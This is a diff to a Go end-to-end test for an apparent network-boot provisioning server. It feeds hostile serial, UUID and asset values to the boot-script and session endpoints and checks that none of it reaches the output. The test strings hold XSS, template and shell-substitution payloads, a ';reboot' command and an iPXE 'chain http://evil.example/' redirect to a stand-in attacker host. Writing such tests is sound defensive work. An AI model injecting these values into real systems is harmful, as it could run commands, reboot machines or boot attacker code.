@@ -21,12 +21,16 @@ import (
 // and terminals, quotes and new lines.
 const hostile = "x\"'><script>alert(1)</script>{{7*7}}${7*7}$(id)`id`;reboot\n#!ipxe\nchain http://evil.example/\r\n\x1b[2J- a: b\x00\xff"
 
+// serial is as bad and all of it can be printed, so that it is taken for what it says it is.
+const serial = "x\"'><script>alert(1)</script>{{7*7}}${7*7}$(id)`id`;reboot||chain http://evil.example/"
+
 // TestE2EHostileServer is a server that lies about what it is, in every word that it may say. It is seen and held;
 // what it says gets into no script, page, table or answer as anything but text.
 func TestE2EHostileServer(t *testing.T) {
 	sc := Play(t, Spec(BIOS("bios1", 1)), ServerOptions{})
-	q := url.Values{"mac": {"02:00:00:00:00:66"}, "serial": {hostile}, "uuid": {hostile}, "asset": {hostile}, "arch": {hostile}}
-	code, script := ask(t, http.MethodGet, sc.Boot+"/boot/script.ipxe?"+q.Encode(), "", "")
+	word := url.PathEscape(hostile)
+	code, script := ask(t, http.MethodGet, sc.Boot+"/boot/script.ipxe?mac=02:00:00:00:00:66&uuid="+word+"&arch="+word+"&platform="+word+
+		"&serial="+url.PathEscape(serial)+"&asset="+word, "", "")
 	token := bootToken.FindStringSubmatch(script)
 	if code != http.StatusOK || token == nil || strings.Contains(script, "evil") || strings.Contains(script, "reboot\n") {
 		t.Fatalf("the boot script: %d %s", code, script)
@@ -56,7 +60,7 @@ func TestE2EHostileServer(t *testing.T) {
 // hostileSession opens an agent's session in hostile words and returns its token.
 func hostileSession(t *testing.T, s *Server, token string) string {
 	t.Helper()
-	code, text := ask(t, http.MethodPost, s.URL+api.PathSession, "", asJSON(t, api.SessionRequest{Token: token, BootID: "boot-66", Serial: hostile,
+	code, text := ask(t, http.MethodPost, s.URL+api.PathSession, "", asJSON(t, api.SessionRequest{Token: token, BootID: "boot-66", Serial: serial,
 		UUID: hostile, AssetTag: hostile, NICMACs: []string{"02:00:00:00:00:66", hostile}, BMCMAC: hostile, Version: hostile, Arch: hostile, BootedMAC: hostile}))
 	var reply api.SessionReply
 	if err := json.Unmarshal([]byte(text), &reply); code != http.StatusOK || err != nil {
@@ -73,7 +77,7 @@ func postFacts(t *testing.T, s *Server, bearer, word string, want int) {
 	t.Helper()
 	var p api.FactsPost
 	f := &p.Facts
-	f.System.Manufacturer, f.System.Product, f.System.Serial, f.System.UUID, f.System.AssetTag = word, word, hostile, word, word
+	f.System.Manufacturer, f.System.Product, f.System.Serial, f.System.UUID, f.System.AssetTag = word, word, serial, word, word
 	f.Kernel, f.Firmware.Mode = word, word
 	code, text := ask(t, http.MethodPost, s.URL+api.PathFacts, bearer, asJSON(t, p))
 	t.Logf("facts with words of %d bytes: %d", len(word), code)
